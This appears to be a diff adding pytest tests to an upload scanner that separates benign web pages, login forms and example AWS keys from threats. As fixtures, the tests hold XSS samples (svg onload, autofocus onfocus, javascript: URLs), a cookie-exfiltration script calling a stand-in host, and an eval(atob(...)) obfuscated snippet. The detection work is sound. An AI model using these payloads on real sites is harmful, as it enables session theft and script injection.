@@ -165,3 +165,69 @@ def test_merge_tags_keeps_the_uploaders_and_stays_within_ten() -> None:
     full = [{"Key": f"t{i}", "Value": "v"} for i in range(10)]
     tags, dropped = merge_tags(full, ours)
     assert len(tags) == 10 and dropped == 2 and {t["Key"] for t in tags} >= {"aup-verdict", "aup-scan"}
+
+
+# --- a customer's own web site, sign-in page and README (found by the eval corpus's review) ---------
+
+
+def _script_confidence(page: bytes, name: str = "page.html") -> float | None:
+    _, findings = scan(page, name)
+    found = [f.confidence for f in findings if f.rule_id == "I3-script-in-document"]
+    return found[0] if found else None
+
+
+def test_a_pages_own_controls_and_void_links_are_a_review_not_a_threat() -> None:
+    page = (
+        b"<html><body><button onclick=\"document.getElementById('m').classList.toggle('open')\">Menu</button>"
+        b'<form onsubmit="return check()"><input onchange="save(this)"></form>'
+        b'<a href="javascript:void(0)">Cart</a><a href="javascript:;">x</a></body></html>'
+    )
+    result, findings = scan(page, "index.html")
+    (f,) = findings
+    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
+    assert f.evidence["interaction_handlers"] == {"onclick": 1, "onsubmit": 1, "onchange": 1}
+    assert f.evidence["javascript_urls"] == 0
+    assert verdict(result.status, findings, POLICY) is Verdict.review
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
+        b'<html><body><input autofocus onfocus="alert(1)"></body></html>',
+        b'<html><body><a href="javascript:void(0);alert(1)">x</a></body></html>',
+    ],
+)
+def test_handlers_that_run_by_themselves_and_working_script_urls_stay_threats(page: bytes) -> None:
+    assert _script_confidence(page) == POLICY.upload_scanning.scripts.handler_confidence
+
+
+def test_a_page_fetching_its_own_data_is_no_exfiltration_but_sending_cookies_is() -> None:
+    scripts = POLICY.upload_scanning.scripts
+    own = b"<html><body><script>fetch('/api/items').then(r=>r.json());localStorage.theme='dark'</script></body></html>"
+    assert _script_confidence(own) == scripts.script_tag_confidence
+    steal = b"<html><body><script>new Image().src='//x.example/?'+document.cookie</script></body></html>"
+    assert _script_confidence(steal) == scripts.exfiltration_confidence
+    hidden = b"<html><body><script>eval(atob('YWxlcnQoMSk='))</script></body></html>"
+    assert _script_confidence(hidden) == scripts.exfiltration_confidence
+
+
+def test_a_login_page_naming_brands_in_passing_is_no_phishing_page() -> None:
+    page = (
+        b"<html><head><title>Sign in - Acme Shop</title></head><body><h1>Sign in to Acme Shop</h1>"
+        b'<form action="/session"><input type="password" name="pw"><button>Sign in</button></form>'
+        b'<p>Or continue with <a href="/auth/google">Google</a>.</p><footer>We accept PayPal.</footer></body></html>'
+    )
+    _, findings = scan(page, "login.html")
+    assert "W1-phishing-page" not in {f.rule_id for f in findings}
+    _, findings = scan(samples.phishing_page(), "verify.html")  # PayPal in its title and heading
+    (f,) = [f for f in findings if f.rule_id == "W1-phishing-page"]
+    assert f.evidence["brands"] == ["PayPal"]
+
+
+def test_awss_documented_example_keys_are_no_credentials() -> None:
+    doc = b"export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nASIAIOSFODNN7EXAMPLE\n"
+    _, findings = scan(doc, "README.md")
+    assert "W2-cloud-credentials" not in {f.rule_id for f in findings}
+    _, findings = scan(b"export AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TXQ4ZR7M\n", "deploy.sh")
+    assert "W2-cloud-credentials" in {f.rule_id for f in findings}
